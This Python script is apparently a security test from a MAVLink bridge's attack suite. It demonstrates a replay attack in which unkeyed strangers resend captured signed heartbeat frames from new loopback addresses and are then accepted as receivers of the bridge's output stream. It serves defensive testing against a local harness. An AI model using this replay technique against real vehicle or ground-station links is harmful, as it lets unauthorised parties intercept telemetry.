"""Signing on: a stranger without the key replays one of the bridge's OWN signed frames (as seen
by anyone on the path, here captured by a legitimate peer) from its own address. The link
verifies it (same key, stream (link 0, sys 1, comp 140) never seen as input, timestamp fresh),
so the stranger becomes a destination of the whole output stream; the core then drops the frame
as "our own traffic echoed back".

Usage: python attack/a13_reflect_own.py
"""

from __future__ import annotations

import socket
import time

from harness import KEY, BridgeProc, collect, peer


def main() -> None:
    bridge = BridgeProc("cfg_signed.yaml", duration=10)
    bridge.wait_ready()
    gcs = peer(bridge.port, key=KEY)
    gcs.mav.heartbeat_send(6, 8, 0, 0, 4)
    captured = []
    for m in collect(gcs, 1.0, "HEARTBEAT"):
        if m.get_srcComponent() in (140, 154):
            captured.append(bytes(m.get_msgbuf()))
    strangers = []
    for i, raw in enumerate(captured[-4:]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((f"127.0.3.{10 + i}", 0))
        s.settimeout(0.05)
        s.sendto(raw, ("127.0.0.1", bridge.port))
        strangers.append(s)
    back = [0] * len(strangers)
    deadline = time.monotonic() + 3.0
    for _ in range(10_000):
        if time.monotonic() > deadline:
            break
        for k, s in enumerate(strangers):
            try:
                s.recv(4096)
                back[k] += 1
            except (TimeoutError, BlockingIOError):
                pass
    bridge.finish()
    print(
        f"{len(strangers)} strangers each replayed ONE captured bridge frame (no key): "
        f"datagrams back in 3 s per stranger = {back}"
    )
    print("link:", bridge.mavlink_stats()["link"])


if __name__ == "__main__":
    main()
